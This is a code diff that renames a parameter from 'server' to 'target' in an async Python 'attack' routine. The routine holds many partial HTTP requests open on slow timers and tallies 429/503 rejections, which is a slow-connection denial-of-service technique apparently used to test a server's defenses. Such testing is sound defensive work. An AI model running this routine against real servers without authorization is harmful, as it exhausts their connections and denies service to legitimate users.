@@ -20,8 +20,8 @@ PARTIAL_REQUESTS = [
 ]
 
 
-async def attack(server: AttackTarget, stop: asyncio.Event) -> None:
-    host, _, port = server.address.rpartition(":")
+async def attack(target: AttackTarget, stop: asyncio.Event) -> None:
+    host, _, port = target.address.rpartition(":")
     attempts = 0
 
     async def hold(partial_request: bytes) -> None:
@@ -33,7 +33,7 @@ async def attack(server: AttackTarget, stop: asyncio.Event) -> None:
         attempts += 1
         try:
             reader, writer = await asyncio.open_connection(
-                host, int(port), local_addr=(server.source, 0)
+                host, int(port), local_addr=(target.source, 0)
             )
         except OSError as error:
             raise NoAnswerError("no connection") from error
@@ -51,8 +51,8 @@ async def attack(server: AttackTarget, stop: asyncio.Event) -> None:
         finally:
             writer.close()
         is_rejected = answer.startswith((b"HTTP/1.1 429", b"HTTP/1.1 503"))
-        server.counts["rejected" if is_rejected else "accepted"] += 1
+        target.counts["rejected" if is_rejected else "accepted"] += 1
         await asyncio.sleep(BYTE_INTERVAL)
 
     tasks = [partial(hold, PARTIAL_REQUESTS[i % len(PARTIAL_REQUESTS)]) for i in range(CONNECTIONS)]
-    await server.repeat_all(stop, list(tasks))
+    await target.repeat_all(stop, list(tasks))
